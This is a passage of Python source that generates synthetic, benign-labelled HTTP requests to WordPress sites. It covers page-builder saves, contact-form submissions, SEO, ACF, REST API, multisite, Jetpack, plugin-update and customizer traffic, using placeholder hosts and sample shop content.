        {"id": el_id(r), "elType": "widget", "widgetType": "html", "settings": {"html": "<div class=\"opening-hours\" data-tz=\"Europe/Berlin\">\n  <table>\n    <tr><td>Mon–Fri</td><td>7:30 – 18:00</td></tr>\n    <tr><td>Sat</td><td>9:00 – 14:00</td></tr>\n  </table>\n</div>\n<iframe src=\"https://www.google.com/maps/embed?pb=!1m14!1m8!1m3!1d9712.3\" width=\"100%\" height=\"300\" style=\"border:0\" loading=\"lazy\"></iframe>"}, "elements": []},
        {"id": el_id(r), "elType": "widget", "widgetType": "image", "settings": {"image": {"url": "https://%s/wp-content/uploads/2024/05/beans.jpg" % host, "id": r.randint(100, 9000), "alt": "Beans", "source": "library"}, "image_size": "large", "caption_source": "custom", "caption": "Our beans — roasted in Berlin"}, "elements": []},
        {"id": el_id(r), "elType": "widget", "widgetType": "shortcode", "settings": {"shortcode": "[contact-form-7 id=\"%d\" title=\"Newsletter\"]" % r.randint(10, 99)}, "elements": []},
        {"id": el_id(r), "elType": "widget", "widgetType": "form", "settings": {"form_name": "Contact", "form_fields": [{"custom_id": "name", "field_label": "Name", "placeholder": "Your name", "_id": el_id(r)}, {"custom_id": "email", "field_type": "email", "field_label": "E-mail", "required": "true", "_id": el_id(r)}, {"custom_id": "message", "field_type": "textarea", "field_label": "Message", "_id": el_id(r)}], "email_to": "hello@%s" % host, "email_subject": "New message from \"[field id=\"name\"]\"", "email_content": "[all-fields]", "success_message": "Thanks! We'll get back to you within 24 h."}, "elements": []},
    ]
    r.shuffle(widgets)
    cols = [{"id": el_id(r), "elType": "column", "settings": {"_column_size": 50, "_inline_size": None}, "elements": widgets[:3]},
            {"id": el_id(r), "elType": "column", "settings": {"_column_size": 50, "_inline_size": None}, "elements": widgets[3:5]}]
    return [{"id": el_id(r), "elType": "section", "settings": {"background_background": "classic", "background_color": "#1E1E1E",
                                                              "padding": {"unit": "px", "top": "80", "right": "0", "bottom": "80", "left": "0", "isLinked": False}},
             "elements": cols, "isInner": False}]


DIVI = ('[et_pb_section fb_built="1" _builder_version="4.24.3" _module_preset="default" background_color="#f7f3ee" custom_padding="6vw||6vw||true|false" global_colors_info="{}"]'
        '[et_pb_row _builder_version="4.24.3" _module_preset="default" global_colors_info="{}"][et_pb_column type="4_4" _builder_version="4.24.3" global_colors_info="{}"]'
        '[et_pb_text _builder_version="4.24.3" text_font="Playfair Display||||||||" text_font_size="18px" custom_css_main_element="box-shadow: 0 2px 4px rgba(0,0,0,.2);||border-radius: 6px;" global_colors_info="{}"]'
        '<h2>Our story</h2><p>Since 1987 we\'ve been making cheese the <em>traditional</em> way &#8211; raw milk, copper vats &amp; patience.</p>[/et_pb_text]'
        '[et_pb_button button_url="@ET-DC@eyJkeW5hbWljIjp0cnVlLCJjb250ZW50IjoicG9zdF9saW5rX3VybF9wYWdlIiwic2V0dGluZ3MiOnsicG9zdF9pZCI6IjQyIn19@" url_new_window="on" button_text="Visit the dairy" _builder_version="4.24.3" custom_button="on" button_bg_color="#2d6a4f" hover_enabled="0" sticky_enabled="0"][/et_pb_button]'
        '[et_pb_code _builder_version="4.24.3"]<div class="hours-widget" data-shop="alpine"></div>[/et_pb_code]'
        '[/et_pb_column][/et_pb_row][/et_pb_section]')
WPB_RAW = "JTNDZGl2JTIwY2xhc3MlM0QlMjJjdGEtYm94JTIyJTNFJTNDYSUyMGhyZWYlM0QlMjIlMkZib29rJTJGJTIyJTNFQm9vayUyMG5vdyUzQyUyRmElM0UlM0MlMkZkaXYlM0U="
WPB = ('[vc_row full_width="stretch_row" css=".vc_custom_1717000000000{padding-top: 40px !important;padding-bottom: 40px !important;background-image: url(https://%(host)s/wp-content/uploads/2024/01/bg.jpg?id=812) !important;background-position: center !important;background-size: cover !important;}"]'
       '[vc_column width="1/2"][vc_column_text css=""]<h3>Opening soon</h3>\n<p>Our second store opens on <strong>1 July</strong> — 50 m from the old one.</p>[/vc_column_text]'
       '[vc_btn title="Read more" color="juicy-pink" link="url:%%2Fabout%%2F|title:About%%20us|target:_blank"][/vc_column]'
       '[vc_column width="1/2"][vc_single_image image="812" img_size="large" onclick="link_image"][vc_raw_html]' + WPB_RAW + '[/vc_raw_html][/vc_column][/vc_row]')


@benign_gen("page-builder")
def g_page_builder(g):
    for i in range(30):
        host = g.site()
        pid = g.r.randint(10, 6000)
        k = i % 5
        if k in (0, 1):
            actions = {"save_builder": {"action": "save_builder", "data": {"status": g.r.choice(["publish", "draft", "autosave"]),
                                                                           "elements": elementor_elements(g.r, host),
                                                                           "settings": {"post_title": g.r.choice(TITLES), "post_status": "publish",
                                                                                        "template": "elementor_header_footer",
                                                                                        "custom_css": "body.page-id-%d .site-header { position: sticky; top: 0; z-index: 99; }" % pid}}}}
            admin_ajax(g, host, [("actions", js(actions)), ("_nonce", nonce(g.r)), ("editor_post_id", pid), ("initial_document_id", pid),
                                 ("action", "elementor_ajax")], referer="/wp-admin/post.php?post=%d&action=elementor" % pid)
        elif k == 2:
            admin_ajax(g, host, [("post_id", pid), ("post_type", "page"), ("modules", js([{"type": "et_pb_section", "attrs": {"_builder_version": "4.24.3"}}])),
                                 ("layout_type", ""), ("et_fb_save_nonce", nonce(g.r)), ("options[status]", "publish"),
                                 ("options[conditional_tags][is_limited_mode]", "false"), ("shortcode", DIVI),
                                 ("action", "et_fb_ajax_save")], referer="/%s/?et_fb=1&PageSpeed=off" % g.r.choice(SLUGS))
        elif k == 3:
            pairs = [("_wpnonce", nonce(g.r)), ("action", "editpost"), ("post_ID", pid), ("post_type", "page"),
                     ("post_title", g.r.choice(TITLES)), ("content", WPB % {"host": host}), ("wpb_vc_js_status", "true"),
                     ("vc_post_custom_css", ".vc_btn3.vc_btn3-color-juicy-pink { background-color: #e4405f !important; }\n#cta:hover{opacity:.9}"),
                     ("vc_post_custom_layout", "default"), ("post_status", "publish"), ("publish", "Update")]
            g.add("POST", host, "/wp-admin/post.php", body=form(pairs), origin=True, referer="/wp-admin/post.php?post=%d&action=edit" % pid,
                  cookie=logged_in(g.r, host))
        else:
            node = hexid(g.r, 13)
            settings = {"type": "rich-text", "text": "<p>Cycling tours every Saturday — <a href=\"/tours/\">book here</a>.</p>",
                        "margin_top": "20", "responsive_display": "", "visibility_display": "", "animation": {"style": "fade", "delay": "0.0"},
                        "container_element": "div", "id": "", "class": "tour-intro"}
            data = {"action": "save_settings", "node_id": node, "settings": settings, "node_preview": {"css": ".fl-node-%s { color: #333; }" % node}}
            g.add("POST", host, "/", query=[("fl_builder", "")], body=form([("fl_builder_data", js(data)), ("_wpnonce", nonce(g.r))]),
                  kind="ajax", origin=True, referer="/%s/?fl_builder" % g.r.choice(SLUGS), cookie=logged_in(g.r, host))


CF7_FORM = ('<label> Your name\n    [text* your-name autocomplete:name] </label>\n\n<label> Your email\n    [email* your-email autocomplete:email] </label>\n\n'
            '<label> Subject\n    [select your-subject "General question" "Order / delivery" "Wholesale"] </label>\n\n'
            '<label> Your message (optional)\n    [textarea your-message 40x5 maxlength:2000] </label>\n\n[acceptance privacy] I agree to the <a href="/privacy-policy/">privacy policy</a>. [/acceptance]\n\n[submit "Send"]')
CF7_MAIL = ("From: [your-name] <[your-email]>\nSubject: [your-subject]\n\nMessage Body:\n[your-message]\n\n-- \n"
            "This e-mail was sent from a contact form on [_site_title] ([_site_url])")


@benign_gen("forms")
def g_forms(g):
    msgs = ["Hello, do you deliver to Potsdam? We need 40 croissants on Saturday 8 June at 9:00.\nThanks, Anna",
            "Bonjour, je voudrais savoir si vos fromages sont au lait cru ? Merci d'avance.",
            "Hi! My order #10234 arrived damaged (see photo). Can you send a replacement? Best, Seán O'Brien",
            "Hola: ¿tenéis opciones sin gluten? Somos 12 personas para el viernes.",
            "We'd like to stock your coffee in our café (Dublin 8). Wholesale price list please — 20-50 kg/month.",
            "Olá! Qual o prazo de entrega para Curitiba - PR? Obrigado."]
    for i in range(24):
        host = g.site()
        k = i % 6
        if k in (0, 1, 2):
            unit = "wpcf7-f12-p%d-o1" % g.r.randint(10, 400)
            parts = [("_wpcf7", "12"), ("_wpcf7_version", "5.9.5"), ("_wpcf7_locale", g.r.choice(["en_US", "de_DE", "fr_FR", "es_ES"])),
                     ("_wpcf7_unit_tag", unit), ("_wpcf7_container_post", "34"), ("_wpcf7_posted_data_hash", ""),
                     ("your-name", g.r.choice(NAMES)), ("your-email", "visitor%d@example.com" % i),
                     ("your-subject", g.r.choice(["General question", "Order / delivery", "Wholesale"])),
                     ("your-message", msgs[i % len(msgs)]), ("privacy", "1"),
                     ("_wpcf7_recaptcha_response", "03AFcWeA" + alnum(g.r, 120))]
            if k == 2:
                parts.append(("your-file", "photo-damage.pdf", "application/pdf", "%PDF-1.4\n% damaged parcel photo\n%%EOF\n"))
            body, ctype = multipart(g.r, parts)
            g.add("POST", host, "/wp-json/contact-form-7/v1/contact-forms/12/feedback", body=body, ctype=ctype, kind="rest", origin=True,
                  referer="/contact/", cookie=visitor(g.r, host) or None)
        elif k == 3:
            pairs = [("_wpnonce", nonce(g.r)), ("_wp_http_referer", "/wp-admin/admin.php?page=wpcf7&post=12&action=edit"),
                     ("post_ID", "12"), ("wpcf7-locale", "en_US"), ("post_title", "Contact form 1"), ("wpcf7-form", CF7_FORM),
                     ("wpcf7-mail[active]", "1"), ("wpcf7-mail[recipient]", "[_site_admin_email]"),
                     ("wpcf7-mail[sender]", "[_site_title] <wordpress@%s>" % host), ("wpcf7-mail[subject]", "[_site_title] \"[your-subject]\""),
                     ("wpcf7-mail[additional_headers]", "Reply-To: [your-email]\nCc: office@%s" % host), ("wpcf7-mail[body]", CF7_MAIL),
                     ("wpcf7-mail[use_html]", "0"), ("wpcf7-messages[mail_sent_ok]", "Thank you for your message. It has been sent."),
                     ("wpcf7-additional-settings", "skip_mail: off\nsubscribers_only: false\non_sent_ok: \"gtag('event', 'generate_lead');\""),
                     ("wpcf7-save", "Save")]
            g.add("POST", host, "/wp-admin/admin.php", query=[("page", "wpcf7"), ("post", "12"), ("action", "save")], body=form(pairs),
                  origin=True, referer="/wp-admin/admin.php?page=wpcf7&post=12&action=edit", cookie=logged_in(g.r, host))
        elif k == 4:
            a = ADDRS[i % len(ADDRS)]
            pairs = [("input_1.3", a["first"]), ("input_1.6", a["last"]), ("input_2", "guest%d@example.net" % i),
                     ("input_3", a["phone"]), ("input_4.1", a["a1"]), ("input_4.3", a["city"]), ("input_4.5", a["pc"]),
                     ("input_4.6", {"DE": "Germany", "IE": "Ireland", "ES": "Spain", "BR": "Brazil", "JP": "Japan", "US": "United States", "FR": "France"}[a["country"]]),
                     ("input_5", msgs[i % len(msgs)]), ("input_6.1", "I agree"), ("is_submit_1", "1"), ("gform_submit", "1"),
                     ("gform_unique_id", ""), ("state_1", "WyJbXSIsIjZkN2Y1NjBiZGE2YTljM2I2ZjUxNjljNjg1ZjhlNDNkIl0="),
                     ("gform_target_page_number_1", "0"), ("gform_source_page_number_1", "1"), ("gform_field_values", ""),
                     ("gform_ajax", "form_id=1&title=&description=&tabindex=0&theme=orbital")]
            g.add("POST", host, "/contact/", body=form(pairs), origin=True, referer="/contact/", cookie=visitor(g.r, host) or None)
        else:
            pairs = [("wpforms[fields][1][first]", g.r.choice(NAMES)), ("wpforms[fields][1][last]", "Test"),
                     ("wpforms[fields][2]", "lead%d@example.org" % i), ("wpforms[fields][3]", msgs[i % len(msgs)]),
                     ("wpforms[fields][4][]", "Newsletter"), ("wpforms[id]", "233"), ("wpforms[author]", "1"),
                     ("wpforms[post_id]", "34"), ("wpforms[token]", hexid(g.r)), ("action", "wpforms_submit"),
                     ("page_url", "https://%s/contact/" % host), ("page_title", "Contact"), ("page_id", "34")]
            admin_ajax(g, host, pairs, referer="/contact/", cookie=visitor(g.r, host) or "wp-wpml_current_language=en")


@benign_gen("yoast")
def g_yoast(g):
    for i in range(10):
        host = g.site()
        k = i % 4
        if k == 0:
            pairs = [("option_page", "wpseo_titles"), ("action", "update"), ("_wpnonce", nonce(g.r)),
                     ("_wp_http_referer", "/wp-admin/admin.php?page=wpseo_page_settings"),
                     ("wpseo_titles[separator]", "sc-dash"), ("wpseo_titles[title-home-wpseo]", "%%sitename%% %%page%% %%sep%% %%sitedesc%%"),
                     ("wpseo_titles[title-post]", "%%title%% %%page%% %%sep%% %%sitename%%"),
                     ("wpseo_titles[metadesc-post]", "%%excerpt%%"), ("wpseo_titles[title-product]", "%%title%% | %%ct_product_cat%% | %%sitename%%"),
                     ("wpseo_titles[breadcrumbs-sep]", "»"), ("wpseo_titles[breadcrumbs-home]", "Home"),
                     ("wpseo_titles[noindex-author-wpseo]", "on"), ("wpseo_titles[company_name]", "Lumen Coffee GmbH & Co. KG")]
            g.add("POST", host, "/wp-admin/options.php", body=form(pairs), origin=True, referer="/wp-admin/admin.php?page=wpseo_page_settings",
                  cookie=logged_in(g.r, host, "admin"))
        elif k == 1:
            g.add("GET", host, "/wp-json/yoast/v1/get_head", query=[("url", "https://%s/%s/" % (host, g.r.choice(SLUGS)))], kind="rest",
                  ua="node-fetch/1.0 (+https://github.com/bitinn/node-fetch)")
        elif k == 2:
            pairs = [("wpseo_redirects_type", "301"), ("wpseo_redirects_origin", g.r.choice(["^/blog/(\\d+)/(.*)$", "old-shop/?cat=5&ref=mail", "/produkt/kaffee-250g"])),
                     ("wpseo_redirects_target", g.r.choice(["/news/$2", "/shop/coffee/", "/product/coffee-250g/"])),
                     ("format", g.r.choice(["regex", "plain"])), ("ajax_nonce", nonce(g.r)), ("action", "wpseo_add_redirect_" + g.r.choice(["plain", "regex"]))]
            admin_ajax(g, host, pairs, referer="/wp-admin/admin.php?page=wpseo_redirects")
        else:
            rest(g, "POST", host, "/yoast/v1/indexing/" + g.r.choice(["posts", "terms", "post-type-archives", "general", "complete"]),
                 {}, referer="/wp-admin/admin.php?page=wpseo_tools")


@benign_gen("acf")
def g_acf(g):
    for i in range(10):
        host = g.site()
        pid = g.r.randint(10, 6000)
        f = lambda: "field_" + hexid(g.r, 13)
        if i % 3 != 2:
            f1, f2, f3, rep = f(), f(), f(), f()
            pairs = [("_wpnonce", nonce(g.r)), ("action", "editpost"), ("post_ID", pid), ("post_type", "event"),
                     ("post_title", "Open mic night #%d" % g.r.randint(1, 40)), ("_acf_screen", "post"), ("_acf_post_id", pid),
                     ("_acf_validation", "1"), ("_acf_nonce", nonce(g.r)), ("_acf_changed", "1"),
                     ("acf[%s]" % f1, "2024%02d%02d" % (g.r.randint(1, 12), g.r.randint(1, 28))),
                     ("acf[%s]" % f2, "Doors 19:00 — <strong>free entry</strong>, donations welcome"),
                     ("acf[%s][lat]" % f3, "52.4996"), ("acf[%s][lng]" % f3, "13.4189"), ("acf[%s][address]" % f3, "Oranienstraße 185, 10999 Berlin, Germany"),
                     ("acf[%s][row-0][%s]" % (rep, f()), "Sofie B. (guitar, vocals)"), ("acf[%s][row-1][%s]" % (rep, f()), "The \"Late Shift\" trio"),
                     ("acf[%s]" % f(), "https://tickets.example.com/e/%d?lang=en" % g.r.randint(1000, 9999)), ("publish", "Update")]
            g.add("POST", host, "/wp-admin/post.php", body=form(pairs), origin=True, referer="/wp-admin/post.php?post=%d&action=edit" % pid,
                  cookie=logged_in(g.r, host))
        else:
            k1, k2 = f(), f()
            pairs = [("acf_field_group[ID]", pid), ("acf_field_group[key]", "group_" + hexid(g.r, 13)), ("post_title", "Event details"),
                     ("acf_fields[%s][label]" % k1, "Ticket URL"), ("acf_fields[%s][name]" % k1, "ticket_url"), ("acf_fields[%s][type]" % k1, "url"),
                     ("acf_fields[%s][conditional_logic]" % k1, "1"),
                     ("acf_fields[%s][conditional_logic][group_0][rule_0][field]" % k1, k2),
                     ("acf_fields[%s][conditional_logic][group_0][rule_0][operator]" % k1, "!="),
                     ("acf_fields[%s][conditional_logic][group_0][rule_0][value]" % k1, "free"),
                     ("acf_fields[%s][label]" % k2, "Price (€)"), ("acf_fields[%s][name]" % k2, "price"), ("acf_fields[%s][type]" % k2, "select"),
                     ("acf_fields[%s][choices]" % k2, "free : Free\npaid : Paid (< 20 €)\ndonation : Pay what you want"),
                     ("acf_field_group[location][group_0][rule_0][param]", "post_type"),
                     ("acf_field_group[location][group_0][rule_0][operator]", "=="),
                     ("acf_field_group[location][group_0][rule_0][value]", "event"), ("_acf_nonce", nonce(g.r)), ("_wpnonce", nonce(g.r)),
                     ("action", "editpost"), ("post_type", "acf-field-group")]
            g.add("POST", host, "/wp-admin/post.php", body=form(pairs), origin=True, referer="/wp-admin/post.php?post=%d&action=edit" % pid,
                  cookie=logged_in(g.r, host, "admin"))


# --------------------------------------------------------------------------
# benign: administration (app passwords, multisite, Jetpack, updates, customizer)
# --------------------------------------------------------------------------

def app_auth(r, user):
    import base64
    pw = " ".join(alnum(r, 4) for _ in range(6))
    return "Basic " + base64.b64encode(("%s:%s" % (user, pw)).encode()).decode()


@benign_gen("rest-cli")
def g_rest_cli(g):
    uas = ["WP-CLI/2.10.0", "curl/8.5.0", "python-requests/2.31.0", "GuzzleHttp/7", "WordPress/6.5.3; https://staging.example.com",
           "axios/1.6.8", "Go-http-client/2.0"]
    calls = [
        ("GET", "/wp/v2/plugins", [("status", "active"), ("_fields", "plugin,version,status")], None),
        ("POST", "/wp/v2/plugins", None, {"slug": "wordpress-seo", "status": "active"}),
        ("POST", "/wp/v2/plugins/akismet/akismet", None, {"status": "inactive"}),
        ("POST", "/wp/v2/settings", None, {"title": "Lumen Coffee", "description": "Small-batch roasters since 2012", "timezone": "Europe/Berlin",
                                           "date_format": "j. F Y", "posts_per_page": 12, "default_comment_status": "closed"}),
        ("POST", "/wp/v2/users", None, {"username": "new.editor", "email": "new.editor@example.com", "password": "Zz9!" + "x" * 12,
                                        "roles": ["editor"], "first_name": "Noa", "last_name": "Ben-David", "locale": "he_IL"}),
        ("POST", "/wp/v2/posts", None, {"title": "Weekly digest #%d", "status": "draft", "content": "<!-- wp:paragraph -->\n<p>Auto-generated digest: 12 new articles, 3 events.</p>\n<!-- /wp:paragraph -->",
                                        "categories": [4], "meta": {"digest_source": "n8n"}}),
        ("DELETE", "/wp/v2/posts/%d", [("force", "true")], None),
        ("GET", "/wp/v2/users", [("roles", "administrator"), ("context", "edit"), ("per_page", 100)], None),
        ("POST", "/wp/v2/media", None, None),
        ("GET", "/wc/v3/system_status", None, None),
        ("POST", "/wp/v2/users/me/application-passwords", None, {"name": "Deploy bot (GitHub Actions)", "app_id": "c7d3a7e0-0b0d-4a77-9d13-6f5b5a2a2f10"}),
        ("PUT", "/wp/v2/comments/%d", None, {"status": "approved", "content": "Thanks for the tip — fixed!"}),
    ]
    for i in range(14):
        host = g.site()
        method, route, q, obj = calls[i % len(calls)]
        if "%d" in route:
            route = route % g.r.randint(10, 6000)
        if "Weekly digest" in js(obj or {}):
            obj = dict(obj, title=obj["title"] % g.r.randint(1, 80))
        ua = g.r.choice(uas)
        hdr = [["Authorization", app_auth(g.r, g.r.choice(["admin", "deploy", "webmaster"]))]]
        if route == "/wp/v2/media":
            body = "<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"16\" height=\"16\"><circle cx=\"8\" cy=\"8\" r=\"7\" fill=\"#e63946\"/></svg>"
            hdr.append(["Content-Disposition", 'attachment; filename="dot-red.svg"'])
            g.add("POST", host, "/wp-json" + route, body=body, ctype="image/svg+xml", kind="api", ua=ua, headers=hdr)
            continue
        g.add(method, host, "/wp-json" + route, query=q, body=js(obj) if obj is not None else None,
              ctype="application/json" if obj is not None else None, kind="api", ua=ua, headers=hdr)


@benign_gen("multisite")
def g_multisite(g):
    host = MULTISITE
    for i in range(10):
        k = i % 5
        sub = g.r.choice(["/chemistry", "/history", "/library", "/alumni", ""])
        ck = logged_in(g.r, host, "netadmin")
        if k == 0:
            pairs = [("_wpnonce_add-blog", nonce(g.r)), ("_wp_http_referer", "/wp-admin/network/site-new.php"),
                     ("blog[domain]", g.r.choice(["physics", "music-dept", "summer-school-2024"])), ("blog[title]", "Department of Physics & Astronomy"),
                     ("WPLANG", "en_GB"), ("blog[email]", "webteam@edu-campus.org"), ("add-site", "Add Site")]
            g.add("POST", host, "/wp-admin/network/site-new.php", query=[("action", "add-site")], body=form(pairs), origin=True,
                  referer="/wp-admin/network/site-new.php", cookie=ck)
        elif k == 1:
            g.add("GET", host, sub + "/wp-json/wp/v2/posts", query=[("per_page", 5), ("_embed", "wp:featuredmedia")], kind="rest")
        elif k == 2:
            pairs = [("_wpnonce", nonce(g.r)), ("id", g.r.randint(2, 60)), ("blog[blogname]", "Alumni Network"), ("blog[siteurl]", "https://%s/alumni" % host),
                     ("blog[home]", "https://%s/alumni" % host), ("blog[blog_public]", "1"), ("blog[upload_space]", "500"), ("submit", "Save Changes")]
            g.add("POST", host, "/wp-admin/network/site-settings.php", query=[("action", "update-site")], body=form(pairs), origin=True,
                  referer="/wp-admin/network/site-settings.php", cookie=ck)
        elif k == 3:
            g.add("GET", host, "/wp-admin/network/sites.php", query=[("s", "history"), ("orderby", "lastupdated"), ("order", "desc"), ("paged", 2)],
                  cookie=ck, referer="/wp-admin/network/")
        else:
            pairs = [("_wpnonce", nonce(g.r)), ("action", "update"), ("registration", "user"), ("registrationnotification", "yes"),
                     ("add_new_users", "1"), ("illegal_names", "www web root admin main invite administrator files"),
                     ("limited_email_domains", "edu-campus.org\nalumni.edu-campus.org"), ("banned_email_domains", "example.invalid"),
                     ("welcome_email", "Howdy USERNAME,\n\nYour new SITE_NAME site has been successfully set up at:\nBLOG_URL\n\n--The Team @ SITE_NAME"),
                     ("upload_filetypes", "jpg jpeg png gif webp mov avi mpg 3gp 3g2 midi mid pdf doc ppt odt pptx docx pps ppsx xls xlsx key mp3 ogg flac m4a wav mp4 m4v webm ogv flv"),
                     ("fileupload_maxk", "10240")]
            g.add("POST", host, "/wp-admin/network/settings.php", body=form(pairs), origin=True, referer="/wp-admin/network/settings.php", cookie=ck)


@benign_gen("jetpack")
def g_jetpack(g):
    for i in range(8):
        host = g.site()
        k = i % 4
        if k == 0:
            body = xmlrpc_call("jetpack.syncActions", [xstr("eyJhY3Rpb25zIjpbWyJ3cF9pbnNlcnRfcG9zdCIseyJJRCI6MTIzfV1dfQ==")])
            g.add("POST", host, "/xmlrpc.php", query=[("for", "jetpack"), ("token", "%s:1:%d" % (alnum(g.r, 32), g.r.randint(1, 9))),
                                                       ("timestamp", 1717000000 + i), ("nonce", alnum(g.r, 10)), ("body-hash", alnum(g.r, 27) + "="),
                                                       ("signature", alnum(g.r, 27) + "=")],
                  body=body, ctype="text/xml", kind="xml", ua="Jetpack by WordPress.com")
        elif k == 1:
            rest(g, "POST", host, "/jetpack/v4/module/" + g.r.choice(["stats", "photon", "related-posts", "subscriptions"]) + "/active",
                 {"active": True}, referer="/wp-admin/admin.php?page=jetpack")
        elif k == 2:
            rest(g, "POST", host, "/jetpack/v4/settings", {"carousel_background_color": "black", "comment_likes": True,
                                                          "jetpack_protect_global_whitelist": "192.168.1.0/24\n203.0.113.7",
                                                          "stats_roles": ["administrator", "editor"], "wpcom_publish_posts_with_markdown": True},
                 referer="/wp-admin/admin.php?page=jetpack#/settings")
        else:
            g.add("GET", host, "/wp-json/jetpack/v4/connection/data", kind="rest", headers=[["X-WP-Nonce", nonce(g.r)]], cookie=logged_in(g.r, host),
                  referer="/wp-admin/admin.php?page=my-jetpack")


@benign_gen("updates")
def g_updates(g):
    plugins = ["akismet/akismet.php", "woocommerce/woocommerce.php", "elementor/elementor.php", "wordpress-seo/wp-seo.php",
               "contact-form-7/wp-contact-form-7.php", "advanced-custom-fields-pro/acf.php", "wpforms-lite/wpforms.php"]
    for i in range(12):
        host = g.site()
        k = i % 4
        p = plugins[i % len(plugins)]
        if k == 0:
            admin_ajax(g, host, [("plugin", p), ("slug", p.split("/")[0]), ("action", "update-plugin"), ("_ajax_nonce", nonce(g.r)),
                                 ("_fs_nonce", ""), ("username", ""), ("password", ""), ("connection_type", ""), ("public_key", ""), ("private_key", "")],
                       referer="/wp-admin/plugins.php?plugin_status=upgrade")
        elif k == 1:
            g.add("GET", host, "/wp-admin/update.php", query=[("action", "upgrade-theme"), ("theme", g.r.choice(["astra", "kadence", "twentytwentyfour"])),
                                                               ("_wpnonce", nonce(g.r))], cookie=logged_in(g.r, host, "admin"), referer="/wp-admin/update-core.php")
        elif k == 2:
            pairs = [("_wpnonce", nonce(g.r)), ("_wp_http_referer", "/wp-admin/plugins.php"), ("action", "activate-selected"),
                     ("checked[]", p), ("checked[]", plugins[(i + 1) % len(plugins)])]
            g.add("POST", host, "/wp-admin/plugins.php", body=form(pairs), origin=True, referer="/wp-admin/plugins.php", cookie=logged_in(g.r, host, "admin"))
        else:
            admin_ajax(g, host, [("s", g.r.choice(["redirection", "backup", "gdpr cookie", "image optimizer", "multilingual"])),
                                 ("tab", "search"), ("type", "term"), ("pagenow", "plugin-install"), ("action", "search-install-plugins"),
                                 ("_ajax_nonce", nonce(g.r))], referer="/wp-admin/plugin-install.php")


CUSTOM_CSS = [
    "/* Header tweaks */\n.site-header { background: linear-gradient(90deg, #1e3a8a 0%, #2563eb 100%); }\n.main-navigation a:hover, .main-navigation a:focus { color: #fbbf24 !important; }\n@media screen and (max-width: 768px) { .site-title { font-size: 1.4rem; } }",
    "blockquote::before { content: \"\\201C\"; font-family: Georgia, serif; }\n.woocommerce ul.products li.product .price > ins { text-decoration: none; }\n.wp-block-button__link[target=\"_blank\"]::after { content: \" \\2197\"; }",
    "@import url('https://fonts.googleapis.com/css2?family=Inter:wght@400;700&display=swap');\nbody { font-family: 'Inter', sans-serif; }\n.entry-content > * + * { margin-top: 1.25em; }\n:root { --accent: #e63946; }",
    "#masthead .custom-logo { max-height: 60px; width: auto; }\n.footer-widgets { display: grid; grid-template-columns: repeat(auto-fit, minmax(220px, 1fr)); gap: 2rem; }\n.cookie-notice-container a[href*=\"privacy\"] { text-decoration: underline; }",
]
CUSTOMIZER_DAT = ('a:4:{s:8:"template";s:5:"astra";s:4:"mods";a:3:{s:18:"nav_menu_locations";a:1:{s:7:"primary";i:3;}s:16:"background_color";s:6:"f7f3ee";'
                  's:11:"custom_logo";i:812;}s:7:"options";a:1:{s:15:"astra-settings";a:2:{s:18:"theme-color";s:7:"#2d6a4f";s:11:"site-layout";s:19:"ast-full-width-layout";}}s:3:"wp_css";s:36:".site-header{background:#1e3a8a;}";}')


@benign_gen("customizer")
def g_customizer(g):
    for i in range(12):
        host = g.site()
        uuid = "%s-%s-4%s-a%s-%s" % (hexid(g.r, 8), hexid(g.r, 4), hexid(g.r, 3), hexid(g.r, 3), hexid(g.r, 12))
        if i % 6 == 5:
            body, ctype = multipart(g.r, [("cei-import-file", "astra-export.dat", "application/octet-stream", CUSTOMIZER_DAT),
                                          ("cei-import-images", "1"), ("action", "cei_import"), ("nonce", nonce(g.r)), ("wp_customize", "on")])
            g.add("POST", host, "/wp-admin/customize.php", body=body, ctype=ctype, origin=True, referer="/wp-admin/customize.php",
                  cookie=logged_in(g.r, host, "admin"))
            continue
        theme = g.r.choice(["astra", "twentytwentyfour", "kadence", "generatepress"])
        data = {"custom_css[%s]" % theme: {"value": CUSTOM_CSS[i % len(CUSTOM_CSS)]},
                "blogname": {"value": g.r.choice(["Lumen Coffee", "Fromagerie Alpine — Depuis 1987", "Hikari Tea 光"])},
                "%s-settings[header-bg-obj-responsive]" % theme: {"value": {"desktop": {"background-color": "#1e3a8a", "background-image": "", "background-type": "color"}}},
                "nav_menu_item[-%d]" % g.r.randint(100000, 999999): {"value": {"object_id": 42, "object": "page", "type": "post_type", "title": "Menu & Prices",
                                                                               "url": "", "target": "", "attr_title": "", "classes": "menu-highlight", "xfn": "",
                                                                               "nav_menu_term_id": 3, "position": 4, "status": "publish"}}}
        if i % 3 == 0:
            data["sidebars_widgets[sidebar-1]"] = {"value": ["block-2", "block-3", "search-2"]}
            data["widget_block[3]"] = {"value": {"encoded_serialized_instance": "YToxOntzOjc6ImNvbnRlbnQiO3M6NTg6Ijwh",
                                                 "title": "", "is_widget_customizer_js_value": True,
                                                 "instance_hash_key": hexid(g.r, 32), "raw_instance": {"content": "<!-- wp:search {\"label\":\"Search\",\"buttonText\":\"Go\"} /-->"}}}
        pairs = [("wp_customize", "on"), ("customize_theme", theme), ("nonce", nonce(g.r)), ("customize_changeset_uuid", uuid),
                 ("customize_autosaved", "on"), ("customize_changeset_data", js(data)),
                 ("customize_changeset_status", g.r.choice(["publish", "draft", "future"])), ("action", "customize_save"),
                 ("customize_preview_nonce", nonce(g.r))]
        admin_ajax(g, host, pairs, referer="/wp-admin/customize.php?return=%2Fwp-admin%2Fthemes.php")


@benign_gen("admin-misc")
def g_admin_misc(g):
    for i in range(18):
        host = g.site()
        k = i % 9
        if k == 0:
            g.add("GET", host, "/wp-cron.php", query=[("doing_wp_cron", "%d.%s" % (1717000000 + i * 97, "".join(str(g.r.randint(0, 9)) for _ in range(22))))],
                  kind="api", ua="WordPress/6.5.3; https://%s" % host)
        elif k == 1:
            g.add("GET", host, "/wp-json/oembed/1.0/proxy", query=[("url", g.r.choice(["https://www.youtube.com/watch?v=jNQXAC9IVRw",
                                                                                        "https://open.spotify.com/episode/4rOoJ6Egrf8K2IrywzwOMk?si=abc",
                                                                                        "https://vimeo.com/76979871", "https://www.instagram.com/p/C6abcDEF123/"])),
                                                                 ("_locale", "user")],
                  kind="rest", headers=[["X-WP-Nonce", nonce(g.r)]], cookie=logged_in(g.r, host), referer="/wp-admin/post-new.php")
        elif k == 2:
            g.add("GET", host, "/wp-json/oembed/1.0/embed", query=[("url", "https://%s/2024/05/%s/" % (host, g.r.choice(SLUGS))), ("format", "xml")],
                  kind="api", ua="Mozilla/5.0 (compatible; Embedly/0.2; +http://support.embed.ly/)")
        elif k == 3:
